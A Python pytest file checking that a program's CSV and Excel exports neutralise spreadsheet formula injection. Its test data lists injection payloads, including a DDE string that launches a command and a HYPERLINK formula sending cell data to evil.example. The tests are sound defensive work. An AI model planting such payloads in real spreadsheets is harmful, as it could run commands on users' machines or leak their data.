"""What people typed runs nowhere as a formula, in no file that leaves the program."""

import csv
import io

import pytest

from tongban.kernel.exports import Table, as_csv, as_xlsx, safe_cell

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"点这里")',
    " =1+1",
)


def table(cell: str) -> Table:
    return Table("access_log", "查看记录", ("姓名", "事由"), ((cell, "核对"), ("马秀英", cell)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_begins_as_a_formula(formula: str) -> None:
    text = b"".join(as_csv(table(formula), "导出编号 EX-1")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert any(formula in cell for cell in cells), "nothing is lost either"
    for cell in cells:
        assert not cell.lstrip(" ").startswith(
            ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
        ), cell


def test_ordinary_text_stays_as_it_is() -> None:
    for text in ("马秀英", "2026-11-23", "胜利乡许旺村三组12号", "'引号", ""):
        assert safe_cell(text) == text


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_cell_of_a_workbook_is_text(formula: str) -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(b"".join(as_xlsx(table(formula), "导出编号 EX-1"))))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) >= 6 and {cell.data_type for cell in cells} <= {"s", "inlineStr"}
